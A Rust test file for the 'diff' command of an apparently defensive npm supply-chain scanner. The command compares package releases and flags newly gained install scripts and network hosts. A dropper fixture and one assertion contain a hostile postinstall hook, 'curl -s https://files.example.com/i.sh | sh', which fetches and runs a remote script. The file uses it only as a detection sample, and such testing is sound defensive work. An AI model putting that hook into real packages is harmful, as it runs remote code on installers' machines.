//! `diff`: what a release gained over an earlier one, for archives without network and for purls like `check`.

use crate::lab::{Lab, dropper};
use bifocal_testkit::NpmPackage;
use serde_json::Value;
use std::collections::BTreeSet;

fn lab() -> Lab {
    let lab = Lab::new();
    let plain = |version| NpmPackage::new("x", version).file("index.js", "module.exports = 1;\n").build();
    lab.write("old.tgz", plain("1.0.0").artifact().bytes());
    lab.write("same.tgz", plain("1.0.1").artifact().bytes());
    lab.write("bad.tgz", dropper("x", "1.0.2").file("index.js", "module.exports = 1;\n").build().artifact().bytes());
    lab
}

#[test]
fn exit_codes_are_those_of_check() {
    let lab = lab();
    lab.run(&["diff", "old.tgz", "same.tgz"]).expect(0).says(&["nothing gained, nothing lost"]);
    lab.run(&["diff", "old.tgz", "bad.tgz"]).expect(1).says(&["HOLD", "gained", "postinstall: curl", "package/package.json:"]);
    lab.run(&["diff", "--fail-on", "deny", "old.tgz", "bad.tgz"]).expect(0);
    lab.run(&["diff", "bad.tgz", "old.tgz"]).expect(0).says(&["lost"]);
    lab.run(&["diff", "old.tgz", "nowhere.tgz"]).expect(3).complains(&["nowhere.tgz"]);
    lab.run(&["diff", "old.tgz", "pkg:npm/x@1.0.0"]).expect(2).complains(&["two purls or two paths"]);
    lab.run(&["diff", "pkg:npm/x@1.0.0", "pkg:npm/y@1.0.0"]).expect(2).complains(&["one package"]);
    lab.run(&["diff", "--format", "sarif", "old.tgz", "bad.tgz"]).expect(2).complains(&["possible values: human, json"]);
    assert!(lab.upstream.log().is_empty());
    lab.write("broken.tgz", "no archive");
    lab.run(&["diff", "broken.tgz", "old.tgz"]).expect(3).says(&["not compared: broken.tgz"]);
    lab.run(&["diff", "old.tgz", "broken.tgz"]).expect(1).says(&["not compared: broken.tgz"]);
}

#[test]
fn the_printed_forms_are_a_contract() {
    let lab = lab();
    let run = lab.run(&["diff", "--format", "json", "old.tgz", "bad.tgz"]).expect(1);
    assert_eq!(run.stdout, lab.run(&["diff", "--format", "json", "old.tgz", "bad.tgz"]).expect(1).stdout);
    let report: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["schema_version"], 1);
    let keys = |value: &Value| value.as_object().unwrap().keys().cloned().collect::<BTreeSet<String>>();
    let names = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect::<BTreeSet<String>>();
    assert_eq!(keys(&report), names(&["analyser", "artifacts", "bifocal", "new", "old", "policy", "reasons", "schema_version", "verdict"]));
    assert_eq!(
        (report["old"].as_str(), report["new"].as_str(), report["verdict"].as_str()),
        (Some("old.tgz"), Some("bad.tgz"), Some("hold"))
    );
    let artifact = &report["artifacts"][0];
    assert_eq!(keys(artifact), names(&["changes", "complete", "new", "old", "signals"]));
    let changes = artifact["changes"].as_array().unwrap();
    let gained = |subject: &str, detail: &str| changes.iter().any(|change| change["subject"] == subject && change["detail"] == detail);
    assert!(gained("install-script", "postinstall: curl -s https://files.example.com/i.sh | sh"), "{changes:?}");
    assert!(gained("host", "files.example.com") && gained("capability", "a host is contacted at install"), "{changes:?}");
    for change in changes {
        assert_eq!(keys(change), names(&["detail", "evidence", "kind", "subject", "when"]));
        assert_eq!(change["kind"], "gained");
        assert_eq!(change["evidence"][0]["path"], "package/package.json", "{change}");
    }
}

#[test]
fn two_purls_are_fetched_verified_and_compared() {
    let lab = Lab::new();
    lab.upstream.publish(NpmPackage::new("x", "1.0.0"));
    lab.upstream.publish(dropper("x", "1.0.1"));
    lab.run(&["diff", "pkg:npm/x@1.0.0", "pkg:npm/x@1.0.1"]).expect(1).says(&["HOLD", "pkg:npm/x@1.0.1", "compared with pkg:npm/x@1.0.0"]);
    lab.run(&["diff", "--offline", "pkg:npm/x@1.0.0", "pkg:npm/x@1.0.1"]).expect(1);
    let missing = lab.run(&["diff", "pkg:npm/x@1.0.0", "pkg:npm/x@9.9.9"]).expect(3).complains(&["cannot compare pkg:npm/x@9.9.9"]);
    assert_eq!(missing.stderr.matches("is not on upstream").count(), 1, "{}", missing.stderr);
    lab.run(&["diff", "", "."]).expect(2).complains(&["OLD"]);
}
